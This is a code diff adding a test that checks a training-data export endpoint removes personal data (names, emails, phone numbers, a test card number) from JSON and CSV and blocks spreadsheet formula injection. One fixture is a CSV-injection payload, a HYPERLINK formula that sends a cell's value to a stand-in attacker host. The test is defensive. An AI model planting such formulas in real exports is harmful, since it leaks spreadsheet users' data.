@@ -395,3 +395,39 @@ describe('review: service_role callers stay inside the tenant named by x-tenant-
     expect(still.rows[0].status).toBe('pending')
   })
 })
+
+describe('review: export of realistic PII and spreadsheet formulas', () => {
+  const PII_TEXTS: Array<[string, string[]]> = [
+    ['Hi, my name is Chiara Rossi, card 4111-1111-1111-1111, call +39 06 6982 1234', ['Chiara', 'Rossi', '4111', '6982']],
+    ['email me: Chiara.Rossi@libero.it or chiara dot rossi at gmail dot com', ['Chiara.Rossi', 'libero', 'gmail']],
+    ['Ship to 1600 Pennsylvania Avenue NW, Washington, DC 20500', ['1600 Pennsylvania', '20500']],
+    ['Thanks, Björn Ångström — tel. 020-7946-0958', ['Björn', 'Ångström', '7946']],
+    ['From: Mr. Kowalski (kowalski@wp.pl)', ['Kowalski', 'wp.pl']],
+  ]
+  const NOTES = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+SUM(1,2)', '-2+3', '@SUM(1)', '\t=1+1']
+
+  it('JSON and CSV have no personal data left, and no cell a spreadsheet would run as a formula', async () => {
+    resetAllRateLimits()
+    const created_at = new Date(Date.now() - 2 * HOUR).toISOString()
+    const records = PII_TEXTS.map(([t], i) => ({
+      external_id: `rv-pii-${i}`, input_text: t, model_draft: `Dear customer, re: ${t}`, safe_to_send: true,
+      category: NOTES[i], notes: NOTES[(i + 1) % NOTES.length] + ' ' + t, created_at,
+    }))
+    const ing = await json(app.fetch('/api/v1/ingest/annotations', { method: 'POST', headers: b.admin.auth, json: { records } }))
+    expect(ing.status).toBe(200)
+    expect(ing.body.failed).toBe(0)
+    const body = { date_from: new Date(Date.now() - 5 * HOUR).toISOString() }
+    const j = await json(app.fetch('/api/v1/analytics/export/training-data', { method: 'POST', headers: b.admin.auth, json: body }))
+    expect(j.status).toBe(200)
+    const rows = j.body.filter((r: any) => String(r.input_text).length)
+    expect(rows.length).toBeGreaterThanOrEqual(PII_TEXTS.length)
+    const jsonText = JSON.stringify(j.body).toLowerCase()
+    for (const [, secrets] of PII_TEXTS) for (const s of secrets) expect(jsonText, s).not.toContain(s.toLowerCase())
+
+    const csv = await (await app.fetch('/api/v1/analytics/export/training-data', { method: 'POST', headers: b.admin.auth, json: { ...body, format: 'csv' } })).text()
+    for (const [, secrets] of PII_TEXTS) for (const s of secrets) expect(csv.toLowerCase(), s).not.toContain(s.toLowerCase())
+    // every cell: unquote, then it must not start with = + - @ (or a tab / CR)
+    const cells = [...csv.matchAll(/(?:^|,)("(?:[^"]|"")*"|[^,\r\n]*)/gm)].map((m) => m[1].replace(/^"|"$/g, '').replace(/""/g, '"'))
+    for (const c of cells) expect(c, c).not.toMatch(/^[=+\-@\t\r]/)
+  })
+})
